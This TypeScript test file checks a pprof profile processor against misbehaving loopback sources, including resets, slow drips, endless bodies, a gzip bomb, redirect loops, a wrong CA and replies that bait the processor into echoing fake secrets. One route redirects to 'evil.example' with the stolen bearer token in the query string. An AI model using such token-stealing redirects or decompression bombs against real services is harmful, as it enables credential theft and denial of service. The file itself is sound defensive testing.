// Sources that fail or attack, against the real processor: loopback servers written for the test
// (reset mid-body, slow drip, silence, an endless body, a gzip bomb, a redirect loop, a wrong CA,
// answers that try to get their content or the token echoed) and the real Go target killed with
// SIGKILL mid CPU capture. Each case asserts the code and the whole error, and reports its time.

import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import type http from 'node:http';
import { gzipSync } from 'node:zlib';
import { after, before, describe, it, type TestContext } from 'node:test';
import { listCaptures } from '../src/store/index.js';
import { makeCertificates, type TestCertificates } from './support/certificates.js';
import { isCpuProfileRunning, startGoTarget } from './support/go-target.js';
import { allowedSources, startKubeApiServer, type KubeApiServer } from './support/kube-api-server.js';
import { PROFILE_BYTES, startRecordingListener, type RecordingListener } from './support/recording-listener.js';
import { startTestProcessor, type TestProcessor } from './support/test-processor.js';
import { waitFor } from './support/wait-for.js';

const TOKEN = 'fault-token-3e8d';
const MAX_PROFILE_BYTES = 1024 * 1024;
/** 32 MiB of zeros: a 32 KiB gzip body, 4 times the decompressed cap (8 × 1 MiB). */
const BOMB = gzipSync(Buffer.alloc(32 * 1024 * 1024));

let certs: TestCertificates;
let kube: KubeApiServer;
let faults: RecordingListener;
let tlsFaults: RecordingListener;
let processor: TestProcessor;
/** The same with a 1 s fetch limit, for the sources that never finish answering. */
let quick: TestProcessor;
/** Timers of the misbehaving routes, stopped when their connection closes or at the end. */
const timers = new Set<NodeJS.Timeout>();

/** The route is the source's first path segment: `http://HOST:PORT/drip` → `/drip/debug/pprof/heap`. */
function route(req: http.IncomingMessage): string {
  return (req.url ?? '').split('/')[1] ?? '';
}

function every(res: http.ServerResponse, ms: number, tick: () => void) {
  const timer = setInterval(tick, ms);
  timers.add(timer);
  res.on('close', () => {
    clearInterval(timer);
    timers.delete(timer);
  });
}

const misbehave = (req: http.IncomingMessage, res: http.ServerResponse): boolean => {
  const auth = req.headers.authorization ?? '';
  switch (route(req)) {
    case 'reset':
      // Headers and part of the body, then a TCP reset.
      res.writeHead(200, { 'content-length': PROFILE_BYTES.length });
      res.write(PROFILE_BYTES.subarray(0, 1000), () => req.socket.resetAndDestroy());
      return true;
    case 'drip':
      res.writeHead(200);
      every(res, 300, () => res.write('x'));
      return true;
    case 'silent':
      return true; // never answers: no status line, no bytes
    case 'endless': {
      res.writeHead(200);
      const chunk = Buffer.alloc(64 * 1024, 0x61);
      const pump = () => {
        while (!res.destroyed && res.write(chunk));
      };
      res.on('drain', pump);
      pump();
      return true;
    }
    case 'bomb':
      res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(BOMB);
      return true;
    case 'loop':
      res.writeHead(302, { location: req.url }).end();
      return true;
    case 'far-redirect':
      res.writeHead(301, { location: `http://internal.example/${'é'.repeat(20)}${'a'.repeat(400)}` }).end();
      return true;
    case 'token-redirect':
      res.writeHead(307, { location: `https://evil.example/?stolen=${auth.replace('Bearer ', '')}` }).end();
      return true;
    case 'json-error':
      res.writeHead(500, 'Internal db-password=hunter2', { 'content-type': 'application/json' });
      res.end('{"error":"connect to postgres://admin:hunter2@db:5432 failed"}');
      return true;
    case 'json-ok':
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"users":[{"name":"root","key":"hunter2"}]}');
      return true;
    case 'html-error':
      res.writeHead(502, 'Bad Gateway hunter2', { 'content-type': 'text/html' });
      res.end('<html><body>upstream hunter2 failed</body></html>');
      return true;
    case 'go-error':
      res.writeHead(500, { 'x-go-pprof': '1', 'content-type': 'text/plain; charset=utf-8' });
      // Go's own line (net/http/pprof's delta profiles); "cpu profiling already in use" is a 409 of its own.
      res.end('failed to collect profile\nsecond line hunter2\n');
      return true;
    case 'go-error-long':
      res.writeHead(500, { 'x-go-pprof': '1', 'content-type': 'text/plain; charset=utf-8' });
      res.end(`profile failed: ${'z'.repeat(300)}\n`);
      return true;
    case 'go-error-token':
      res.writeHead(500, { 'x-go-pprof': '1', 'content-type': 'text/plain; charset=utf-8' });
      res.end(`rejected ${auth}\n`);
      return true;
    case 'binary':
      res.writeHead(200).end(Buffer.from([0x08, 0x96, 0x01, 0xff, 0xff, 0xff, 0x00, 0x13]));
      return true;
    default:
      return false;
  }
};

before(async () => {
  certs = await makeCertificates(TOKEN);
  [kube, faults, tlsFaults] = await Promise.all([
    startKubeApiServer(certs),
    startRecordingListener({ host: '127.0.0.1', misbehave }),
    startRecordingListener({
      host: '127.0.0.1',
      tls: { certPem: certs.serverCertPem, keyPem: certs.serverKeyPem },
      misbehave,
    }),
  ]);
  kube.secrets.set('default/pprof', { token: TOKEN, 'ca.crt': certs.caPem });
  kube.annotations.set('default/pprof', allowedSources(tlsFaults.url));
  kube.secrets.set('default/wrong-ca', { token: TOKEN, 'ca.crt': certs.otherCaPem });
  kube.annotations.set('default/wrong-ca', allowedSources(tlsFaults.url));
  const options = { kubeconfigPath: kube.kubeconfigPath, trust: { maxProfileBytes: MAX_PROFILE_BYTES } };
  [processor, quick] = await Promise.all([
    startTestProcessor(options),
    startTestProcessor({ ...options, fetchTimeoutSeconds: 1 }),
  ]);
});

after(async () => {
  for (const timer of timers) clearInterval(timer);
  await Promise.all([processor?.close(), quick?.close()]);
  await Promise.all([kube?.close(), faults?.close(), tlsFaults?.close()]);
  if (certs !== undefined) rmSync(certs.dir, { recursive: true, force: true });
});

interface Fault {
  readonly name: string;
  readonly body: () => Record<string, unknown>;
  /** The whole error (exact), with `URL` standing for the fetched URL. */
  readonly error: string;
  /**
   * The source never finishes answering: asked of the processor with a 1 s fetch limit. Every
   * other fault is asked of one whose limit no busy machine reaches, so it fails as itself.
   */
  readonly endless?: true;
}

const plain = (path: string) => () => ({ source: `${faults.url}/${path}`, type: 'Heap' });
const secured =
  (path: string, secret = 'pprof') =>
  () => ({
    source: `${tlsFaults.url}/${path}`,
    type: 'Heap',
    tls: { secretReference: { name: secret } },
  });

const FAULTS: Fault[] = [
  { name: 'reset mid-body', body: plain('reset'), error: 'fetch URL: connection reset by the target (ECONNRESET)' },
  {
    name: 'slow drip (a byte every 300 ms, past the 1 s limit)',
    body: plain('drip'),
    error: 'fetch URL: timed out: no complete answer within 1 s',
    endless: true,
  },
  {
    name: 'never answers',
    body: plain('silent'),
    error: 'fetch URL: timed out: no complete answer within 1 s',
    endless: true,
  },
  {
    name: 'endless body',
    body: plain('endless'),
    error: `fetch URL: the answer exceeds the limit of ${MAX_PROFILE_BYTES} bytes`,
  },
  {
    name: 'gzip bomb (32 KiB → 32 MiB)',
    body: plain('bomb'),
    error: `fetch URL: the decompressed profile exceeds the limit of ${8 * MAX_PROFILE_BYTES} bytes`,
  },
  {
    name: 'redirect loop',
    body: plain('loop'),
    error:
      'fetch URL: the target answered HTTP 302 redirecting to "/loop/debug/pprof/heap" (redirects are not followed)',
  },
  {
    name: 'redirect elsewhere, its Location sanitized and capped',
    body: plain('far-redirect'),
    error: `fetch URL: the target answered HTTP 301 redirecting to "http://internal.example/${'?'.repeat(20)}${'a'.repeat(200 - 'http://internal.example/'.length - 20 - 3)}..." (redirects are not followed)`,
  },
  {
    name: 'redirect carrying the token',
    body: secured('token-redirect'),
    error:
      "fetch URL: the target answered HTTP 307 redirecting to a Location holding the Secret's token (not shown) (redirects are not followed)",
  },
  {
    name: 'wrong CA',
    body: secured('', 'wrong-ca'),
    error:
      "fetch URL: TLS: the target's certificate is not signed by the Secret's ca.crt (UNABLE_TO_VERIFY_LEAF_SIGNATURE)",
  },
  {
    name: 'a JSON error from an internal service: neither its body nor its reason phrase',
    body: plain('json-error'),
    error: 'fetch URL: the target answered HTTP 500 with JSON (62 bytes)',
  },
  {
    name: 'an HTML error page',
    body: plain('html-error'),
    error: 'fetch URL: the target answered HTTP 502 with an HTML page (49 bytes)',
  },
  {
    name: 'JSON served as 200',
    body: plain('json-ok'),
    error: 'fetch URL: not a profile: the answer is JSON (43 bytes)',
  },
  {
    name: 'binary that is not a profile',
    body: plain('binary'),
    error:
      'fetch URL: not a profile: the answer is binary data (8 bytes): unsupported wire type 7 in Profile at byte 7',
  },
  {
    name: "Go's own error line (X-Go-Pprof: 1): the first line only",
    body: plain('go-error'),
    error: 'fetch URL: the target answered HTTP 500: "failed to collect profile"',
  },
  {
    name: "Go's error line, capped at 200 characters",
    body: plain('go-error-long'),
    error: `fetch URL: the target answered HTTP 500: "profile failed: ${'z'.repeat(200 - 16 - 3)}..."`,
  },
  {
    name: "Go's error line holding the token is not quoted",
    body: secured('go-error-token'),
    error: 'fetch URL: the target answered HTTP 500 with text (33 bytes)',
  },
];

describe('fetch faults', () => {
  it('answers 500 naming each fault, without echoing the source, and stores nothing', async (t: TestContext) => {
    const stored = (await listCaptures(processor.dataRoot)).length + (await listCaptures(quick.dataRoot)).length;
    const answers: string[] = [];
    for (const fault of FAULTS) {
      const body = fault.body();
      const url = `${String(body.source)}/debug/pprof/heap`.replace(/\/\/debug/, '/debug');
      const start = performance.now();
      const { status, json } = await (fault.endless ? quick : processor).post(body);
      const ms = Math.round(performance.now() - start);
      t.diagnostic(`${fault.name}: ${status} in ${ms} ms`);
      answers.push(JSON.stringify(json));
      assert.equal(status, 500, `${fault.name}: ${JSON.stringify(json)}`);
      assert.deepEqual(json, { error: fault.error.replace('URL', url) }, fault.name);
    }
    for (const answer of answers) {
      assert.ok(!answer.includes('hunter2') && !answer.includes(TOKEN), answer);
    }
    assert.equal(faults.paths.filter((path) => path.startsWith('/loop/')).length, 1, 'the redirect is not followed');
    assert.equal((await listCaptures(processor.dataRoot)).length + (await listCaptures(quick.dataRoot)).length, stored);
    for (const line of [...processor.logs, ...quick.logs])
      assert.ok(!line.includes(TOKEN) && !line.includes('hunter2'), line);
    // Still serving: a good capture right after.
    assert.equal((await processor.post(secured('')())).status, 200);
  });

  it('answers 500 when the Go target is killed (SIGKILL) while its CPU profile runs', async (t: TestContext) => {
    const target = await startGoTarget(['-stacks', '8']);
    try {
      const start = performance.now();
      let answered = false;
      // A CPU profile far longer than it takes to see it running, however busy the machine.
      const answer = processor.post({ source: target.url, type: 'Profile', seconds: 600 }).finally(() => {
        answered = true;
      });
      await waitFor(async () => answered || (await isCpuProfileRunning(target)), 'the CPU profile to start');
      assert.equal(answered, false, 'the capture ended before its CPU profile was seen running');
      process.kill(target.pid, 'SIGKILL');
      const { status, json } = await answer;
      t.diagnostic(`Go target killed mid CPU capture: ${status} in ${Math.round(performance.now() - start)} ms`);
      assert.equal(status, 500, JSON.stringify(json));
      assert.deepEqual(json, {
        error: `fetch ${target.url}/debug/pprof/profile?seconds=600: connection reset by the target (ECONNRESET)`,
      });
    } finally {
      await target.stop();
    }
  });
});
